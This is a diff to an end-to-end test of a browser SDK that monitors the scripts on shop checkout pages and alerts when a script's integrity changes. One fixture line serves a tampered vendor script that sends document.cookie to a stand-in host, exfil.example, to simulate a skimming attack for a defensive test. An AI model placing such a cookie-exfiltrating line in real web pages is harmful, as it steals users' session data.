@@ -67,13 +67,16 @@ describeInChromium('the browser SDK in Chromium, against the running service', (
   const bySrc = (list: any[], fragment: string) => list.find((script) => script.src.includes(fragment));
 
   /** A page view in its own browser context (fresh storage), unless one is given; page errors are collected. */
-  async function visit(url: string, context?: Awaited<ReturnType<Browser['createBrowserContext']>>): Promise<{ page: Page; errors: string[] }> {
+  async function visit(url: string, context?: Awaited<ReturnType<Browser['createBrowserContext']>>): Promise<{ page: Page; errors: string[]; requested: string[] }> {
     const page = await (context ?? (await browser.createBrowserContext())).newPage();
     const errors: string[] = [];
+    const requested: string[] = [];
     page.on('pageerror', (error) => errors.push(String((error as Error).message ?? error)));
+    page.on('request', (request) => requested.push(request.url()));
     await page.goto(url, { waitUntil: 'load' });
-    return { page, errors };
+    return { page, errors, requested };
   }
+  const askedConfig = (requested: string[]) => requested.some((url) => url.startsWith(`${api}/sdk/v1/config?`));
 
   /** A checkout page as a shop writes it: the `html` snippet first in <head>, then everything else. */
   const checkout = (snippet: string, head: string, body = '') =>
@@ -109,8 +112,10 @@ describeInChromium('the browser SDK in Chromium, against the running service', (
         `<script>var d=document.createElement('script');d.src='${fixtures.url(`${p}/dynamic.js`, 'other')}';document.body.appendChild(d);</script>`,
       ),
     );
-    const { page, errors } = await visit(url);
+    const { page, errors, requested } = await visit(url);
     const list = await scriptsUntil(store.id, (found) => found.length >= 12);
+    // A monitor-mode page view starts from the config served inside sdk.js: nothing is asked for first.
+    expect(askedConfig(requested)).toBe(false);
     const external = ['app.js', 'async.js', 'module.js'].map((name) => fixtures.url(`${p}/${name}`));
     const other = ['cors.js', 'dynamic.js', 'gtm.js?id=GTM-TEST1', 'nocors.js', 'pinned.js', 'tag.js', 'wrong-sri.js'].map((name) => fixtures.url(`${p}/${name}`, 'other'));
     expect(list.filter((s) => !s.src.startsWith('inline:')).map((s) => s.src).sort()).toEqual([...external, ...other]);
@@ -147,11 +152,16 @@ describeInChromium('the browser SDK in Chromium, against the running service', (
     expect(authorized.body).toMatchObject({ status: 'authorized', integrity_status: 'match' });
     await first.page.close();
 
+    // The next page view loads the copy a shop pins with integrity: it carries no config and asks for it.
     fixtures.script('/integrity/vendor.js', 'window.vendor = 1; fetch("https://exfil.example/?c=" + document.cookie);', { cors: true });
-    const second = await visit(url);
+    const { sdk } = (await service.request('GET', `/sdk/v1/config?key=${store.sdk_key}`)).body;
+    const pinnedSnippet = `<script src="${sdk.url}?key=${store.sdk_key}" integrity="${sdk.integrity}" crossorigin="anonymous"></script>`;
+    const pinned = fixtures.page('/integrity/pinned-checkout', checkout(pinnedSnippet, `<script src="${fixtures.url('/integrity/vendor.js', 'other')}" crossorigin="anonymous"></script>`));
+    const second = await visit(pinned);
     const [alert] = await alertsUntil(store.id, (list) => list.some((a) => a.type === 'SCRIPT_INTEGRITY_MISMATCH'));
     expect(alert).toMatchObject({ type: 'SCRIPT_INTEGRITY_MISMATCH', severity: 'high', source: vendor.src, details: expect.objectContaining({ authorized_hash: sri('window.vendor = 1;') }) });
     expect((await service.request('GET', `/api/v1/scripts/${vendor.id}`, { token })).body.integrity_status).toBe('mismatch');
+    expect(askedConfig(second.requested)).toBe(true);
     await second.page.close();
   }, 60_000);
 
